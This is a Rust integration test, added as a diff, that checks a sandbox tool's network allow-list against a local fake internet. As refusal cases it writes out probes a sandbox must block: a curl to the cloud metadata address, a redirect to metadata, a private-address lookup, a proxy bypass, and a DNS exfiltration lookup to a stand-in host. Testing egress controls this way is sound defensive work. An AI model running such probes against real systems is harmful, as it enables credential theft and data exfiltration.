@@ -1,0 +1,529 @@
+//! A docker sandbox made with `--network allow:…` (issue 52), against a test
+//! "internet": a network namespace this test makes, joined to the host by a
+//! veth pair, with HTTP and HTTPS servers on a documentation address
+//! (198.51.100.0/24, TEST-NET-2) and names the proxy resolves from a table
+//! (`BERTH_EGRESS_HOSTS`), so no traffic and no lookup leaves the machine.
+//!
+//! Shown: curl, pip (a package from the test index) and git over the
+//! allowed names; HTTPS through CONNECT; a host in no rule, a metadata
+//! address, a private address reached by name and a redirect to metadata
+//! refused, each naming its rule; a program that ignores the proxy
+//! variables finds no route and no resolver; every connection is an event;
+//! `berth sandbox network` changes the rules while the sandbox runs; clone
+//! keeps them, and a clone to a backend that cannot enforce them fails and
+//! says why; a new server after `server stop` opens the door again.
+//!
+//! Needs root (it makes a network namespace) and the docker engine: without
+//! either it fails, naming what is missing.
+
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+
+use crate::docker_settings::{State, unique};
+use crate::support::TestResult;
+
+type BoxError = Box<dyn std::error::Error + Send + Sync>;
+
+fn run(cmd: &str, args: &[&str]) -> Result<String, BoxError> {
+    let o = Command::new(cmd).args(args).output()?;
+    if !o.status.success() {
+        return Err(format!(
+            "{cmd} {args:?} failed: {}{}",
+            String::from_utf8_lossy(&o.stdout),
+            String::from_utf8_lossy(&o.stderr)
+        )
+        .into());
+    }
+    Ok(String::from_utf8_lossy(&o.stdout).into_owned())
+}
+
+/// The test internet: a namespace with one address, its servers, and the
+/// files they serve. Everything goes when it drops.
+struct Inet {
+    ns: String,
+    host_if: String,
+    addr: String,
+    servers: Vec<Child>,
+    _www: tempfile::TempDir,
+}
+
+impl Drop for Inet {
+    fn drop(&mut self) {
+        for s in &mut self.servers {
+            let _ = s.kill();
+            let _ = s.wait();
+        }
+        let _ = run("ip", &["link", "del", &self.host_if]);
+        let _ = run("ip", &["netns", "del", &self.ns]);
+    }
+}
+
+/// The test index's one package: a wheel made here, by the zip layout a
+/// wheel has (no network, no build tools).
+const MAKE_WHEEL: &str = r#"
+import sys, zipfile, hashlib, base64, os
+out = sys.argv[1]
+os.makedirs(out, exist_ok=True)
+name = "berthdemo-1.0-py3-none-any.whl"
+files = {
+    "berthdemo/__init__.py": "GREETING = 'hello from the test index'\n",
+    "berthdemo-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: berthdemo\nVersion: 1.0\n",
+    "berthdemo-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: berth-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+}
+record = []
+with zipfile.ZipFile(os.path.join(out, name), "w") as z:
+    for path, text in files.items():
+        data = text.encode()
+        z.writestr(path, data)
+        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+        record.append(f"{path},sha256={digest},{len(data)}")
+    record.append("berthdemo-1.0.dist-info/RECORD,,")
+    z.writestr("berthdemo-1.0.dist-info/RECORD", "\n".join(record) + "\n")
+"#;
+
+/// The web server: files, and `/redirect` sending the client to the
+/// metadata name.
+const SERVE: &str = r#"
+import http.server, ssl, sys, functools
+addr, port, root = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+cert = sys.argv[4] if len(sys.argv) > 4 else None
+class H(http.server.SimpleHTTPRequestHandler):
+    def do_GET(self):
+        if self.path == "/redirect":
+            self.send_response(302)
+            self.send_header("Location", "http://meta.test/latest/meta-data/")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
+        return super().do_GET()
+s = http.server.ThreadingHTTPServer((addr, port), functools.partial(H, directory=root))
+if cert:
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(cert, cert)
+    s.socket = ctx.wrap_socket(s.socket, server_side=True)
+s.serve_forever()
+"#;
+
+impl Inet {
+    fn up() -> Result<Inet, BoxError> {
+        if !nix::unistd::geteuid().is_root() {
+            return Err("the egress test makes a network namespace, which needs root".into());
+        }
+        // A /30 of its own per process, so runs side by side do not meet.
+        let k = (std::process::id() % 60) * 4;
+        let (host_ip, addr) = (
+            format!("198.51.100.{}", k + 1),
+            format!("198.51.100.{}", k + 2),
+        );
+        let ns = format!("berth-inet-{}", std::process::id());
+        let host_if = format!("bi{}", std::process::id());
+        run("ip", &["netns", "add", &ns])?;
+        let www = tempfile::tempdir()?;
+        let mut me = Inet {
+            ns: ns.clone(),
+            host_if: host_if.clone(),
+            addr: addr.clone(),
+            servers: Vec::new(),
+            _www: tempfile::tempdir()?,
+        };
+        run(
+            "ip",
+            &[
+                "link", "add", &host_if, "type", "veth", "peer", "name", "eth0", "netns", &ns,
+            ],
+        )?;
+        run(
+            "ip",
+            &["addr", "add", &format!("{host_ip}/30"), "dev", &host_if],
+        )?;
+        run("ip", &["link", "set", &host_if, "up"])?;
+        let inside = |args: &[&str]| -> Result<String, BoxError> {
+            let mut a = vec!["netns", "exec", &ns];
+            a.extend_from_slice(args);
+            run("ip", &a)
+        };
+        inside(&["ip", "addr", "add", &format!("{addr}/30"), "dev", "eth0"])?;
+        inside(&["ip", "link", "set", "eth0", "up"])?;
+        inside(&["ip", "link", "set", "lo", "up"])?;
+
+        // What it serves: a file, the package index, a git repository.
+        let root = www.path();
+        std::fs::write(root.join("index.txt"), "hello from the test internet\n")?;
+        run(
+            "python3",
+            &[
+                "-c",
+                MAKE_WHEEL,
+                &root.join("simple/berthdemo").display().to_string(),
+            ],
+        )?;
+        make_repo(root)?;
+        let cert = root.join("cert.pem");
+        run(
+            "openssl",
+            &[
+                "req",
+                "-x509",
+                "-newkey",
+                "rsa:2048",
+                "-nodes",
+                "-days",
+                "1",
+                "-subj",
+                "/CN=secure.test",
+                "-keyout",
+                &cert.display().to_string(),
+                "-out",
+                &cert.display().to_string(),
+            ],
+        )
+        .or_else(|_| {
+            // Some openssl versions refuse one file for both: write two, join.
+            let key = root.join("key.pem");
+            run(
+                "openssl",
+                &[
+                    "req",
+                    "-x509",
+                    "-newkey",
+                    "rsa:2048",
+                    "-nodes",
+                    "-days",
+                    "1",
+                    "-subj",
+                    "/CN=secure.test",
+                    "-keyout",
+                    &key.display().to_string(),
+                    "-out",
+                    &root.join("c.pem").display().to_string(),
+                ],
+            )?;
+            let joined =
+                std::fs::read_to_string(&key)? + &std::fs::read_to_string(root.join("c.pem"))?;
+            std::fs::write(&cert, joined)?;
+            Ok::<String, BoxError>(String::new())
+        })?;
+        let serve = root.join("serve.py");
+        std::fs::write(&serve, SERVE)?;
+        for (port, tls) in [("8080", false), ("8443", true)] {
+            let mut args = vec![
+                "netns".to_string(),
+                "exec".into(),
+                ns.clone(),
+                "python3".into(),
+                serve.display().to_string(),
+                addr.clone(),
+                port.into(),
+                root.display().to_string(),
+            ];
+            if tls {
+                args.push(cert.display().to_string());
+            }
+            me.servers.push(
+                Command::new("ip")
+                    .args(&args)
+                    .stdout(Stdio::null())
+                    .stderr(Stdio::null())
+                    .spawn()?,
+            );
+        }
+        me._www = www;
+        // Up when the host reaches it directly (the sandbox cannot).
+        let deadline = Instant::now() + Duration::from_secs(20);
+        while std::net::TcpStream::connect((addr.as_str(), 8443)).is_err()
+            || std::net::TcpStream::connect((addr.as_str(), 8080)).is_err()
+        {
+            if Instant::now() > deadline {
+                return Err("the test internet's servers did not come up in 20 s".into());
+            }
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        Ok(me)
+    }
+
+    /// The proxy's name table: every test name on this internet, plus a
+    /// metadata name and a private one.
+    fn hosts(&self) -> String {
+        let a = &self.addr;
+        format!(
+            "pypi.test={a},git.test={a},secure.test={a},other.test={a},meta.test=169.254.169.254,intranet.test=10.20.30.40"
+        )
+    }
+}
+
+/// A bare repository served over dumb HTTP, with one commit.
+fn make_repo(root: &Path) -> Result<(), BoxError> {
+    let work = root.join("work");
+    let bare = root.join("repo.git");
+    let (w, b) = (work.display().to_string(), bare.display().to_string());
+    run("git", &["init", "-q", "-b", "main", &w])?;
+    std::fs::write(work.join("README"), "cloned through berth's proxy\n")?;
+    let g = |args: &[&str]| -> Result<String, BoxError> {
+        let mut a = vec![
+            "-C",
+            w.as_str(),
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@t",
+        ];
+        a.extend_from_slice(args);
+        run("git", &a)
+    };
+    g(&["add", "README"])?;
+    g(&["commit", "-q", "-m", "one"])?;
+    run("git", &["clone", "-q", "--bare", &w, &b])?;
+    run("git", &["-C", &b, "update-server-info"])?;
+    Ok(())
+}
+
+fn text(o: &std::process::Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+/// The net events of sandbox `name`, as `berth events --json` shows them.
+fn net_events(st: &State, name: &str) -> Result<Vec<Value>, BoxError> {
+    let out = st.ok(&["events", "--json", "--limit", "500"])?;
+    Ok(out
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .filter(|e| {
+            e["sandbox"] == name && e["kind"].as_str().is_some_and(|k| k.starts_with("net."))
+        })
+        .collect())
+}
+
+#[test]
+fn docker_allow_list_lets_named_hosts_through_and_confines_the_rest() -> TestResult {
+    let inet = Inet::up()?;
+    let mut st = State::new("auto")?;
+    st.env.push(("BERTH_EGRESS_HOSTS".into(), inet.hosts()));
+    let name = unique("egress");
+    st.create(
+        &name,
+        &["--network", "allow:pypi.test,git.test,secure.test:8443"],
+    )?;
+
+    // Allowed names: curl, pip from the test index, git over HTTP, HTTPS
+    // through CONNECT (the proxy does not look inside).
+    let o = st.exec(&name, "curl -sS http://pypi.test:8080/index.txt")?;
+    assert!(
+        text(&o).contains("hello from the test internet"),
+        "{}",
+        text(&o)
+    );
+    let o = st.exec(
+        &name,
+        "python3 -m venv /tmp/v && /tmp/v/bin/pip install -q --disable-pip-version-check \
+         --index-url http://pypi.test:8080/simple/ --trusted-host pypi.test berthdemo \
+         && /tmp/v/bin/python -c 'import berthdemo; print(berthdemo.GREETING)'",
+    )?;
+    assert!(
+        text(&o).contains("hello from the test index"),
+        "pip through the proxy: {}",
+        text(&o)
+    );
+    let o = st.exec(
+        &name,
+        "git clone -q http://git.test:8080/repo.git /tmp/repo && cat /tmp/repo/README",
+    )?;
+    assert!(
+        text(&o).contains("cloned through berth's proxy"),
+        "git through the proxy: {}",
+        text(&o)
+    );
+    let o = st.exec(&name, "curl -sSk https://secure.test:8443/index.txt")?;
+    assert!(
+        text(&o).contains("hello from the test internet"),
+        "https through CONNECT: {}",
+        text(&o)
+    );
+
+    // Refusals, each naming its rule: a host in no rule, a port the rule
+    // does not name, metadata, a private address by name, a redirect to
+    // metadata.
+    for (cmd, rule) in [
+        ("curl -sS http://other.test:8080/index.txt", "(mode allow)"),
+        ("curl -sS http://secure.test:8080/index.txt", "(mode allow)"),
+        (
+            "curl -sS http://169.254.169.254/latest/meta-data/",
+            "(guarded: link-local)",
+        ),
+        ("curl -sS http://intranet.test/", "(guarded: private)"),
+        (
+            "curl -sSL http://pypi.test:8080/redirect",
+            "meta.test:80 refused by the sandbox's network policy (guarded: link-local)",
+        ),
+    ] {
+        let o = st.exec(&name, cmd)?;
+        let t = text(&o);
+        assert!(
+            t.contains("refused by the sandbox's network policy") && t.contains(rule),
+            "{cmd}: {t}"
+        );
+    }
+
+    // A program that ignores the proxy variables: no route, no resolver.
+    let raw = format!(
+        "python3 -c 'import socket; socket.create_connection((\"{}\", 8080), 3)'",
+        inet.addr
+    );
+    let o = st.exec(&name, &raw)?;
+    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(text(&o).contains("Network is unreachable"), "{}", text(&o));
+    let o = st.exec(
+        &name,
+        "curl -sS --noproxy '*' http://pypi.test:8080/index.txt",
+    )?;
+    assert!(
+        !text(&o).contains("hello from the test internet"),
+        "{}",
+        text(&o)
+    );
+    // DNS exfiltration: a lookup has nowhere to go.
+    let o = st.exec(
+        &name,
+        "python3 -c 'import socket; socket.getaddrinfo(\"secret.exfil.test\", 80)'",
+    )?;
+    assert_ne!(o.status.code(), Some(0), "a name resolved: {}", text(&o));
+
+    // Every connection is an event, with its host, rule and bytes.
+    let events = net_events(&st, &name)?;
+    let detail = |e: &Value| -> Value {
+        e["detail"]
+            .as_str()
+            .and_then(|d| serde_json::from_str(d).ok())
+            .unwrap_or(Value::Null)
+    };
+    assert!(
+        events.iter().any(|e| e["kind"] == "net.connect"
+            && detail(e)["host"] == "pypi.test"
+            && detail(e)["bytes_down"].as_u64().is_some_and(|b| b > 0)
+            && detail(e)["rule"] == "allow: pypi.test"),
+        "{events:?}"
+    );
+    assert!(
+        events.iter().any(|e| e["kind"] == "net.refused"
+            && detail(e)["host"] == "meta.test"
+            && detail(e)["rule"] == "guarded: link-local"),
+        "{events:?}"
+    );
+
+    // The rules change while it runs.
+    let out = st.ok(&[
+        "sandbox",
+        "network",
+        &name,
+        "allow",
+        "other.test",
+        "-b",
+        "docker",
+        "--json",
+    ])?;
+    let v: Value = serde_json::from_str(&out)?;
+    assert!(
+        v["allow"]
+            .as_array()
+            .is_some_and(|a| a.iter().any(|r| r == "other.test")),
+        "{v}"
+    );
+    let o = st.exec(&name, "curl -sS http://other.test:8080/index.txt")?;
+    assert!(
+        text(&o).contains("hello from the test internet"),
+        "{}",
+        text(&o)
+    );
+    st.ok(&[
+        "sandbox",
+        "network",
+        &name,
+        "deny",
+        "pypi.test",
+        "-b",
+        "docker",
+    ])?;
+    let o = st.exec(&name, "curl -sS http://pypi.test:8080/index.txt")?;
+    assert!(text(&o).contains("(deny: pypi.test)"), "{}", text(&o));
+
+    // A clone keeps the rules; a clone to a backend that cannot enforce
+    // them fails and says why (never a sandbox with the network on).
+    let copy = unique("egress-clone");
+    st.owns(&copy);
+    st.ok(&["sandbox", "clone", &name, &copy, "-b", "docker"])?;
+    let v: Value =
+        serde_json::from_str(&st.ok(&["sandbox", "inspect", &copy, "-b", "docker", "--json"])?)?;
+    assert!(
+        v.to_string().contains("other.test") && v["container"]["settings"]["network"] == "none",
+        "{v}"
+    );
+    let o = st.exec(&copy, "curl -sS http://other.test:8080/index.txt")?;
+    assert!(
+        text(&o).contains("hello from the test internet"),
+        "{}",
+        text(&o)
+    );
+    let o = st.exec(&copy, "curl -sS http://pypi.test:8080/index.txt")?;
+    assert!(text(&o).contains("(deny: pypi.test)"), "{}", text(&o));
+    let o = st.run(&[
+        "sandbox",
+        "clone",
+        &name,
+        &unique("egress-local"),
+        "-b",
+        "docker",
+        "--to",
+        "local",
+    ])?;
+    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(
+        text(&o).contains("local sandboxes cannot have `--network allow:`"),
+        "{}",
+        text(&o)
+    );
+
+    // A new server opens the door again.
+    st.ok(&["server", "stop"])?;
+    let o = st.exec(&name, "curl -sS http://other.test:8080/index.txt")?;
+    assert!(
+        text(&o).contains("hello from the test internet"),
+        "{}",
+        text(&o)
+    );
+    Ok(())
+}
+
+#[test]
+fn a_bad_network_flag_or_a_backend_without_a_door_is_refused_with_why() -> TestResult {
+    let st = State::new("off")?;
+    let o = st.run(&["sandbox", "create", "x", "--network", "allow:bad host"])?;
+    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
+    let o = st.run(&["sandbox", "create", "x", "--network", "sometimes"])?;
+    assert!(
+        text(&o).contains("use `off`, `open` or `allow:HOST,HOST"),
+        "{}",
+        text(&o)
+    );
+    let o = st.run(&["sandbox", "create", "x", "--network", "allow:pypi.org"])?;
+    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(
+        text(&o).contains("local sandboxes cannot have `--network allow:`"),
+        "{}",
+        text(&o)
+    );
+    // Nothing was recorded for the refused sandbox.
+    let ls = st.ok(&["sandbox", "ls", "--json"])?;
+    assert!(!ls.contains("\"x\""), "{ls}");
+    // Rules change only on a sandbox whose way out is the proxy.
+    st.ok(&["sandbox", "create", "plain"])?;
+    let o = st.run(&["sandbox", "network", "plain", "allow", "pypi.org"])?;
+    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(text(&o).contains("has network off"), "{}", text(&o));
+    Ok(())
+}
